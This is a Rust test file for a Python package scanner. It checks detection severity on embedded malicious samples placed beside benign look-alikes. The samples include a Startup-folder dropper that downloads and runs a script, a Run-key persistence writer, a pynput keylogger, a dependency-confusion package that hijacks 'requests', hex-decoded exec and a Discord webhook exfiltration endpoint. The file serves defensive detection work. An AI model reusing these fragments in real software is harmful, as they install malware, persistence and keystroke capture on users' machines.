//! The tenth round of issue #12: a dropper whose steps a reader links by
//! the path they share (written, then handed to an interpreter inside a
//! command string or through a thread), and causes of false positives read
//! on a new benign draw (benign-dev12). Each benign look-alike sits next to
//! the malicious form that must stay high.

mod support;

use support::*;

use airlock_inspect::Severity;
use Severity::{High, Medium};

fn worst(report: &airlock_inspect::Report, rule: &str, file: &str) -> Option<Severity> {
    hits(report, rule, file).into_iter().map(|(_, s)| s).max()
}

// ---------------------------------------------------------------- a dropper linked by the path expression it writes and runs

const STARTUP_DROPPER: &str = r#"import os, threading, requests
class Tool:
    @classmethod
    def init(cls):
        startup_path = f"C:\\Users\\{os.getlogin()}\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup"
        with open(startup_path + "\\startup.py", "wb") as file:
            file.write(requests.get("https://files.example.net/a/b/main.py").content)
        threading.Thread(target=os.system, args=("py " + startup_path + "\\startup.py",)).start()
"#;

#[test]
fn a_file_written_from_a_download_and_started_by_an_interpreter_command_is_a_dropper() {
    let r = module(STARTUP_DROPPER);
    assert!(worst(&r, "payload/download-exec", MOD) >= Some(High), "{:?}", r.findings);
}

#[test]
fn a_downloaded_file_handed_to_a_program_as_data_is_no_dropper() {
    // The file is fetched and saved, then unpacked: tar reads it, nothing runs it.
    let src = r#"import os, requests
def fetch(dest):
    with open(dest + "/data.tar", "wb") as fh:
        fh.write(requests.get("https://files.example.net/data.tar").content)
    os.system("tar xf " + dest + "/data.tar -C " + dest)
"#;
    let r = module(src);
    assert!(worst(&r, "payload/download-exec", MOD) < Some(High), "{:?}", r.findings);
}

#[test]
fn an_autostart_folder_built_in_an_f_string_is_still_that_folder() {
    let r = module(STARTUP_DROPPER);
    // Written in a function, not on import: medium, beside the dropper's high.
    assert_eq!(worst(&r, "access/persistence", MOD), Some(Medium), "{:?}", r.findings);
    // Named alone, in a message, it is information.
    let r = module("def hint(user):\n    return f\"copy it to C:\\\\Users\\\\{user}\\\\AppData\\\\Roaming\\\\Microsoft\\\\Windows\\\\Start Menu\\\\Programs\\\\Startup\"\n");
    assert!(worst(&r, "access/persistence", MOD) < Some(Medium), "{:?}", r.findings);
}

#[test]
fn a_script_written_from_a_download_and_run_through_an_f_string_command_is_a_dropper() {
    let src = r#"import os, urllib.request
def update(folder):
    target = os.path.join(folder, "stage.py")
    with open(target, "wb") as fh:
        fh.write(urllib.request.urlopen("https://files.example.net/s.py").read())
    os.system(f"python3 {target}")
"#;
    let r = module(src);
    assert!(worst(&r, "payload/download-exec", MOD) >= Some(High), "{:?}", r.findings);
}

// ---------------------------------------------------------------- a file name with a space for its dash

#[test]
fn an_sdist_named_for_its_release_with_a_space_for_the_dash_names_that_release() {
    let meta = "Metadata-Version: 2.1\nName: reformat-gherkin\nVersion: 2.1.0\n";
    let r = sdist_named("reformat-gherkin 2.1.0", meta, &[("reformat_gherkin/__init__.py", "")]);
    assert!(r.findings.iter().all(|f| f.rule != "metadata/name-mismatch"), "{:?}", r.findings);
    // Another project's name, however it is spelled, still differs.
    let r = sdist_named("reformat-2.1.0", meta, &[("reformat_gherkin/__init__.py", "")]);
    assert!(r.findings.iter().any(|f| f.rule == "metadata/name-mismatch" && f.severity == High), "{:?}", r.findings);
}

// ---------------------------------------------------------------- an address shown in a message

#[test]
fn a_raw_address_printed_in_a_message_is_information() {
    let r = module("def hint():\n    print(\"training data from: http://146.56.204.113:19199/preview\")\n");
    assert_eq!(worst(&r, "access/raw-ip-url", MOD), Some(Medium), "{:?}", r.findings);
    // Printed and fetched: contacted.
    let src = "import requests\nURL = \"http://146.56.204.113:19199/p\"\ndef go():\n    print(URL)\n    return requests.get(URL).text\n";
    let r = module(src);
    assert_eq!(worst(&r, "access/raw-ip-url", MOD), Some(High), "{:?}", r.findings);
}

// ---------------------------------------------------------------- a scheduler's task is built, not run

const DAG: &str = r#"import requests
from airflow.sdk import dag, task

@dag(schedule=None)
def tutorial():
    @task
    def get_data():
        return requests.get("https://api.example.org/v1/air", params={"q": 1}).json()
    get_data()

tutorial()
"#;

#[test]
fn a_call_of_a_scheduled_task_at_the_top_level_runs_nothing_on_import() {
    let r = module(DAG);
    assert!(worst(&r, "access/network-on-install", MOD) < Some(High), "{:?}", r.findings);
    // The same functions with no scheduler's decorator run on import.
    let plain = DAG.replace("@dag(schedule=None)\n", "").replace("    @task\n", "");
    let r = module(&plain);
    assert_eq!(worst(&r, "access/network-on-install", MOD), Some(High), "{:?}", r.findings);
}

// ---------------------------------------------------------------- a test suite by another name

#[test]
fn a_testsuite_folder_holds_tests() {
    let src = "import subprocess\ntry:\n    subprocess.check_call(['borg.exe', 'help'])\n    EXES = ['python', 'binary']\nexcept FileNotFoundError:\n    EXES = ['python']\n";
    let r = wheel(&[("acme/__init__.py", ""), ("acme/testsuite/archiver.py", src)]);
    let in_tests = worst(&r, "access/process-on-install", "acme/testsuite/archiver.py");
    let r = wheel(&[("acme/__init__.py", ""), ("acme/suite/archiver.py", src)]);
    let in_package = worst(&r, "access/process-on-install", "acme/suite/archiver.py");
    assert!(in_tests < in_package, "{in_tests:?} {in_package:?}");
}

// ---------------------------------------------------------------- a build that reads its version with exec and fetches a source archive

const FETCHES_SOURCES: &str = r#"import os
from setuptools import setup

def get_version():
    with open(os.path.join("acme", "version.py")) as f:
        exec(compile(f.read(), "acme/version.py", "exec"))
    return locals()["__version__"]

def get_extensions():
    if not os.path.exists("ops"):
        import requests
        url = "https://github.com/acme/ops/" + "archive/refs/tags/" + OPS_VERSION + ".zip"
        req = requests.get(url)
        with open("./ops.zip", "wb") as f:
            f.write(req.content)
        from zipfile import ZipFile
        with ZipFile("./ops.zip", "r") as archive:
            archive.extractall()
    return []

OPS_VERSION = "v1.2"
setup(name="acme", version=get_version(), ext_modules=get_extensions())
"#;

#[test]
fn a_build_that_execs_its_own_version_file_and_unpacks_a_fetched_source_archive_installs_an_artifact() {
    let r = setup_py(FETCHES_SOURCES);
    assert!(worst(&r, "access/network-on-install", SETUP) < Some(High), "{:?}", r.findings);
    // Code it did not read from its own file (a decoded string) makes the fetch no artifact's.
    let r = setup_py(&FETCHES_SOURCES.replace("exec(compile(f.read(), \"acme/version.py\", \"exec\"))", "exec(bytes.fromhex(f.readline()).decode())"));
    assert_eq!(worst(&r, "access/network-on-install", SETUP), Some(High), "{:?}", r.findings);
}

// ---------------------------------------------------------------- a repository step an sdist skips or left out

fn setup_running_script(lines: &str) -> String {
    format!("import os, subprocess, sys\nfrom setuptools import setup\nhere = os.path.dirname(__file__)\n{lines}\nsetup(name=\"acme\")\n")
}

#[test]
fn a_script_run_only_if_it_exists_is_a_step_the_sdist_skips() {
    let guarded = setup_running_script(
        "bootstrap_py = os.path.join(here, \"bootstrap.py\")\nif os.path.exists(bootstrap_py):\n    subprocess.run([sys.executable, bootstrap_py], check=False)",
    );
    let r = sdist(&[("setup.py", &guarded), ("acme/__init__.py", "")]);
    assert_eq!(worst(&r, "access/process-on-install", SETUP), Some(Medium), "{:?}", r.findings);
    // Unguarded, beside setup.py: what runs is not here to read.
    let bare = setup_running_script("subprocess.check_call([sys.executable, os.path.join(here, \"stage2.py\")])");
    let r = sdist(&[("setup.py", &bare), ("acme/__init__.py", "")]);
    assert_eq!(worst(&r, "access/process-on-install", SETUP), Some(High), "{:?}", r.findings);
}

#[test]
fn a_script_joined_into_a_folder_the_sdist_does_not_ship_is_a_step_left_out() {
    let joined = setup_running_script("p = subprocess.call([sys.executable,\n    os.path.join(here, 'tools', 'cythonize.py'),\n    'acme'], cwd=here)");
    let r = sdist(&[("setup.py", &joined), ("acme/__init__.py", "")]);
    assert_eq!(worst(&r, "access/process-on-install", SETUP), Some(Medium), "{:?}", r.findings);
    // The folder ships, the script is not in it: high.
    let r = sdist(&[("setup.py", &joined), ("tools/README", "tools\n"), ("acme/__init__.py", "")]);
    assert_eq!(worst(&r, "access/process-on-install", SETUP), Some(High), "{:?}", r.findings);
}

// ---------------------------------------------------------------- another project's import package, taken over

#[test]
fn a_process_on_import_in_a_package_named_for_another_popular_project_is_high() {
    let payload = "import os\nos.system(\"echo 'pwned' > /tmp/pwned\")\n";
    let meta = |name: &str| format!("Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n");
    let r = sdist_named("depconf-test-1.0", &meta("depconf-test"), &[("src/requests/__init__.py", payload)]);
    assert_eq!(worst(&r, "access/process-on-install", "depconf-test-1.0/src/requests/__init__.py"), Some(High), "{:?}", r.findings);
    // The project itself, or a build of it named with its name as a word, owns that package.
    for name in ["requests", "requests-binary"] {
        let stem = format!("{name}-1.0");
        let r = sdist_named(&stem, &meta(name), &[("src/requests/__init__.py", payload)]);
        assert_eq!(worst(&r, "access/process-on-install", &format!("{stem}/src/requests/__init__.py")), Some(Medium), "{name}: {:?}", r.findings);
    }
    // Its own package name: medium, as before.
    let r = sdist_named("depconf-test-1.0", &meta("depconf-test"), &[("src/depconf_test/__init__.py", payload)]);
    assert_eq!(worst(&r, "access/process-on-install", "depconf-test-1.0/src/depconf_test/__init__.py"), Some(Medium), "{:?}", r.findings);
}

// ---------------------------------------------------------------- a browser opened by the build

#[test]
fn a_build_that_opens_a_web_page_in_the_browser_is_high() {
    let r = setup_py("import webbrowser\nfrom setuptools import setup\nwebbrowser.open_new_tab(\"https://forms.example.org/r/abc\")\nsetup(name=\"acme\")\n");
    assert_eq!(worst(&r, "access/process-on-install", SETUP), Some(High), "{:?}", r.findings);
    // A command-line tool that opens the docs when asked: no finding of the install rules.
    let r = module("import webbrowser\ndef docs():\n    webbrowser.open(\"https://acme.example.org/docs\")\n");
    assert!(worst(&r, "access/process-on-install", MOD).is_none(), "{:?}", r.findings);
}

// ---------------------------------------------------------------- a webhook address with its id and token left to the caller

#[test]
fn a_webhook_address_template_with_holes_for_id_and_token_is_the_apis_shape() {
    let client = "import aiohttp\nclass Webhook:\n    async def send(self, session, payload):\n        url = f\"https://discord.com/api/webhooks/{self.id}/{self.token}\"\n        return await session.post(url, json=payload)\n";
    let r = module(client);
    assert_eq!(worst(&r, "access/exfil-endpoint", MOD), Some(Medium), "{:?}", r.findings);
    // The author's own channel, written out, stays high.
    let own = client.replace("{self.id}/{self.token}", "1104467401241808966/AbCdEfGhIjKlMnOpQrStUvWxYz0123456789");
    let r = module(&own);
    assert_eq!(worst(&r, "access/exfil-endpoint", MOD), Some(High), "{:?}", r.findings);
}

// ---------------------------------------------------------------- capture plus an autostart entry

const ADD_STARTUP: &str = r#"import os, sys
from winreg import OpenKey, CloseKey, SetValueEx, HKEY_CURRENT_USER, KEY_ALL_ACCESS, REG_SZ
def add_startup():
    path = os.path.abspath(__file__)
    key = OpenKey(HKEY_CURRENT_USER, "Software\\Microsoft\\Windows\\CurrentVersion\\Run", 0, KEY_ALL_ACCESS)
    SetValueEx(key, "Door", 0, REG_SZ, path)
    CloseKey(key)
"#;

const KEYLOG: &str = "from pynput.keyboard import Listener\ndef log(path):\n    def on_press(key):\n        open(path, 'a').write(str(key))\n    Listener(on_press=on_press).start()\n";

#[test]
fn a_release_that_captures_the_user_and_writes_an_autostart_entry_is_spyware() {
    let r = wheel(&[("acme/__init__.py", ""), ("acme/persistence.py", ADD_STARTUP), ("acme/keylogger.py", KEYLOG)]);
    let spyware = r.findings.iter().find(|f| f.rule == "access/surveillance" && f.severity == High);
    assert!(spyware.is_some_and(|f| f.message.contains("acme/persistence.py")), "{:?}", r.findings);
    // Each half alone stays information for the auditor.
    let r = wheel(&[("acme/__init__.py", ""), ("acme/keylogger.py", KEYLOG)]);
    assert!(r.findings.iter().all(|f| f.severity < High), "{:?}", r.findings);
    let r = wheel(&[("acme/__init__.py", ""), ("acme/persistence.py", ADD_STARTUP)]);
    assert!(r.findings.iter().all(|f| f.severity < High), "{:?}", r.findings);
    // A startup location only named (an uninstaller's message) is no autostart entry written.
    let named = "def hint():\n    return 'remove it from Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run'\n";
    let r = wheel(&[("acme/__init__.py", ""), ("acme/hint.py", named), ("acme/keylogger.py", KEYLOG)]);
    assert!(r.findings.iter().all(|f| f.severity < High), "{:?}", r.findings);
}
